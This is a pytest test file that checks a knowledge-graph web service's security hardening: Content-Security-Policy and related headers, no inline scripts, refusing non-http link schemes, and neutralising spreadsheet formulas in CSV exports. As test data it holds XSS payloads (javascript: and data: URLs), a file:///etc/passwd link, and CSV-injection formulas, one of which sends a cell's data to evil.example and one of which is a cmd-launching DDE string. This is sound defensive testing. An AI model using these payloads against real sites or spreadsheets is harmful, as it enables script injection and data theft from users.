"""Locked-down pages (issue 28, finding 6): no page sent a Content-Security-Policy,
``nosniff`` or ``frame-ancestors``; ``POST /measures/intrinsic-dimension`` stored
``dataset=javascript:alert(3)`` and the pages linked any stored IRI of any scheme (a click
ran it); CSV downloads passed spreadsheet formulas through.

YASGUI and Swagger UI under the policy in Chromium: tests/service/web/test_browser.py
(every view, /docs and a YASGUI query with no console error: a CSP violation is one).
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from rdflib import Graph, Literal, URIRef
from rdflib.namespace import RDFS

from reprokg.core.settings import Settings
from reprokg.core.tables import spreadsheet_cell
from reprokg.service.app import create_app
from reprokg.service.headers import CONTENT_SECURITY_POLICY, YASGUI_STYLE_HASHES
from reprokg.service.web.assets import VENDOR_DIR
from reprokg.service.web.render import anchor, href, linkable
from reprokg.store import open_store
from tests.conftest import REPO

TOKEN = "lockdown"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
EVIL = "javascript:alert(3)"
BASE = Settings().base


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    store = open_store(tmp_path_factory.mktemp("lockdown") / "kg")
    # what an older version stored, or another tool wrote into the store: the pages must
    # not link it whatever validation says today
    g = Graph()
    thing = URIRef(BASE + "thing/evil")
    g.add((thing, RDFS.label, Literal("a thing")))
    g.add((thing, RDFS.seeAlso, URIRef(EVIL)))
    g.add((thing, RDFS.seeAlso, URIRef("https://example.org/fine")))
    store.add_document(BASE + "doc/evil", g)
    settings = Settings(write_token=TOKEN, access_log=False, parse_workers=0)
    with TestClient(create_app(settings, store=store)) as c:
        yield c
    store.close()


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/"),
        ("GET", "/docs"),
        ("GET", "/health"),
        ("GET", "/openapi.json"),
        ("GET", "/id/thing/evil"),
        ("GET", "/no-such-page"),
        ("GET", "/sparql?query=ASK%7B%7D"),
        ("POST", "/validate"),
    ],
)
def test_every_answer_is_locked_down(client: TestClient, method: str, path: str) -> None:
    r = client.request(method, path, content=b"x" * 10 if method == "POST" else None)
    csp = r.headers["content-security-policy"]
    assert csp == CONTENT_SECURITY_POLICY
    assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp
    assert "'unsafe-inline'" not in csp and "'unsafe-eval'" not in csp
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["referrer-policy"] == "same-origin"
    assert r.headers["x-frame-options"] == "DENY"


def test_a_refusal_before_the_app_is_locked_down_too(client: TestClient) -> None:
    r = client.post("/validate", content=b"x", headers={"Content-Length": str(10**9)})
    assert r.status_code == 413 and r.headers["x-content-type-options"] == "nosniff"


def test_no_page_needs_an_inline_script(client: TestClient) -> None:
    for path in ("/docs", "/", "/validate", "/query", "/evidence", "/sources", "/sources/reprodb"):
        html = client.get(path).text
        inline = re.findall(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)[^>]*>", html)
        assert not inline, (path, inline)
        assert not re.search(r"\son[a-z]+=", html), path  # no onclick= … handlers
        assert " style=" not in html, path


def test_the_allowed_inline_styles_are_yasguis_own() -> None:
    """The two style hashes are recomputed from the vendored bundle: the ``<style>``
    texts its column resizer adds (a refreshed bundle that changes them fails here)."""
    js = (VENDOR_DIR / "yasgui/yasgui.min.js").read_text(encoding="utf-8")
    start = js.index("r.createStyle(a,` .grip-resizable") + len("r.createStyle(a,`")
    grips = js[start : js.index("`", start)]
    drag = re.search(r"dragCursor:`([^`]*)`", js).group(1)  # type: ignore[union-attr]
    assert "`*{cursor:`+n.opt.dragCursor+`!important}`" in js
    texts = (grips, "*{cursor:" + drag + "!important}")
    hashes = tuple(
        "'sha256-" + base64.b64encode(hashlib.sha256(t.encode()).digest()).decode() + "'"
        for t in texts
    )
    assert hashes == YASGUI_STYLE_HASHES


# --- links -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://example.org/a", True),
        ("http://example.org/a", True),
        ("HTTPS://example.org/a", True),
        ("/paper?doi=10.1/x", True),
        ("#line-3", True),
        (EVIL, False),
        ("JavaScript:alert(3)", False),
        (" javascript:alert(3)", False),
        ("data:text/html,<script>alert(3)</script>", False),
        ("vbscript:msgbox", False),
        ("file:///etc/passwd", False),
        ("//evil.example/x", False),
        ("https:evil", False),
        ("urn:isbn:123", False),
    ],
)
def test_only_http_and_our_own_paths_are_links(url: str, ok: bool) -> None:
    assert (linkable(url) == url) is ok
    assert ("<a " in str(anchor(url, "text"))) is ok
    assert (href(url) is not None) is ok


def test_a_stored_javascript_iri_is_shown_as_text(client: TestClient) -> None:
    page = client.get("/id/thing/evil", headers={"Accept": "text/html"}).text
    assert EVIL in page  # shown
    assert 'href="javascript' not in page.lower()
    assert '<a href="https://example.org/fine"' in page  # an http(s) IRI is still a link


def test_a_javascript_dataset_is_refused_at_ingest(client: TestClient) -> None:
    before = client.get("/documents").json()["count"]
    data = b"f1,f2,f3\n0,0,1\n1,0.5,1\n2,1,1\n3,4,1\n4,4.5,1.2\n5,5,6\n"  # test_api's
    r = client.post(
        "/measures/intrinsic-dimension",
        files={"data": ("w.csv", data, "text/csv")},
        data={"dataset": EVIL, "save": "true"},
        headers=AUTH,
    )
    assert r.status_code == 400, r.text
    assert "http(s) IRI" in r.json()["detail"]["message"]
    assert client.get("/documents").json()["count"] == before


def test_a_javascript_audit_link_is_refused(client: TestClient) -> None:
    """(The audit loader already refused it, located; kept here with the others.)"""
    text = (REPO / "examples/audits/gcn.yaml").read_text(encoding="utf-8")
    text = text.replace("  - attribute: S1\n", f"  - attribute: S1\n    link: {EVIL}\n", 1)
    r = client.post("/documents", params={"name": "gcn.yaml"}, content=text, headers=AUTH)
    assert r.status_code == 400, r.text
    assert r.json()["detail"]["field"] == "findings[0].link"


# --- CSV ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+1", "'+1+1"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("plain title", "plain title"),
        (-1.5, -1.5),
        (3, 3),
        (None, ""),
    ],
)
def test_csv_cells_are_neutralised_against_formulas(cell: object, shown: object) -> None:
    assert spreadsheet_cell(cell) == shown


def test_a_formula_title_in_a_view_s_csv_is_text(client: TestClient, tmp_path: Path) -> None:
    text = (REPO / "examples/audits/gcn.yaml").read_text(encoding="utf-8")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    text = text.replace(
        "title: Semi-Supervised Classification with Graph Convolutional Networks",
        "title: '" + formula.replace("'", "''") + "'",
    )
    r = client.post("/documents", params={"name": "evil.yaml"}, content=text, headers=AUTH)
    assert r.status_code == 201, r.text
    body = client.get("/papers", params={"format": "csv"}).text
    cells = [c for row in csv.reader(io.StringIO(body)) for c in row]
    assert "'" + formula in cells and formula not in cells
